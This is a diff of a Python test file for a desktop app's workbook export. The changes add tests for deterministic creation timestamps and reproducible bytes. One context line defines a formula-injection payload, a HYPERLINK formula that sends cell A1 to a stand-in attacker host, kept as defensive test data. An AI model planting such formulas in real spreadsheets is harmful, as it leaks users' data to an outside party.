@@ -8,6 +8,7 @@ import zipfile
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
+from zoneinfo import ZoneInfo
 
 import pytest
 from openpyxl import load_workbook
@@ -23,6 +24,7 @@ from waakvlam_desktop.storage.vault import Vault
 
 NOV = Period.parse("2026-11")
 Q4 = Period.parse("2026-Q4")
+NOW = datetime(2026, 11, 27, 10, 0, tzinfo=UTC)
 HOSTILE = '=HYPERLINK("http://aanvaller.example/?d="&A1;"klik")'
 
 
@@ -91,6 +93,32 @@ def test_aggregate_workbook_counts_are_numbers(
     assert all(isinstance(v, int) or v is None for v in counts)
 
 
+def test_the_workbook_is_dated_by_the_export_not_by_the_computer(
+    world: World, clock: FixedClock, tmp_path: Path
+) -> None:
+    """The workbook's own creation time is the bundle's ``created_at``, from the vault's clock.
+    XlsxWriter wrote the computer's time instead: a second apart, two builds of one bundle then
+    differed in size (its compressed properties), and the workbook contradicted the manifest."""
+    clock.set(datetime(2026, 12, 1, 23, 30, 15, tzinfo=UTC))
+    bundle = _bundle(world, "Wijkteam", NOV, tmp_path)
+    book = load_workbook(io.BytesIO(bundle.members[fmt.WORKBOOK]))
+    assert book.properties.created == datetime(2026, 12, 1, 23, 30, 15)
+    assert bundle.manifest["created_at"].startswith("2026-12-01T23:30:15")
+
+
+def test_one_table_at_one_moment_gives_the_same_bytes() -> None:
+    """The size limits of a bundle are checked on the workbook's bytes: a second build of
+    the same rows at the same moment must not differ by a byte."""
+    rows = [["0612345678", "2026-11-10", 3]] * 50
+    table = {"residents": (["telefoon", "datum", "aantal"], rows)}
+    moment = datetime(2026, 11, 27, 10, 0, tzinfo=UTC)
+    first = workbook_bytes(table, created=moment)
+    # A naive moment is UTC, as the vault stores it; another zone is the same instant.
+    assert workbook_bytes(table, created=moment.replace(tzinfo=None)) == first
+    assert workbook_bytes(table, created=moment.astimezone(ZoneInfo("Europe/Amsterdam"))) == first
+    assert workbook_bytes(table, created=datetime(2026, 11, 27, 10, 0, 1, tzinfo=UTC)) != first
+
+
 def test_handover_bundles_carry_no_workbook(world: World, tmp_path: Path) -> None:
     bundle = _bundle(world, "Collega", NOV, tmp_path)
     assert fmt.WORKBOOK not in bundle.members
@@ -113,14 +141,16 @@ def test_the_workbook_never_touches_disk(
 
     monkeypatch.setattr(tempfile, "mkstemp", watching)
     rows = [["0612345678", "2026-11-10", 3]] * 2000
-    data = workbook_bytes({"residents": (["telefoon", "datum", "aantal"], rows)})
+    data = workbook_bytes({"residents": (["telefoon", "datum", "aantal"], rows)}, created=NOW)
     assert data.startswith(b"PK") and seen == [] and list(scratch.iterdir()) == []
 
 
 def test_links_and_numbers_in_text_stay_text() -> None:
     """A name that looks like a link or a number is not turned into one."""
     rows = [["http://aanvaller.example/x", "1e5", "mailto:a@b.example", "2026-11-30T23:30:00"]]
-    data = workbook_bytes({"residents": (["naam", "telefoon", "straat", "aangemaakt"], rows)})
+    data = workbook_bytes(
+        {"residents": (["naam", "telefoon", "straat", "aangemaakt"], rows)}, created=NOW
+    )
     with zipfile.ZipFile(io.BytesIO(data)) as archive:
         assert not any(
             "hyperlink" in archive.read(n).decode()
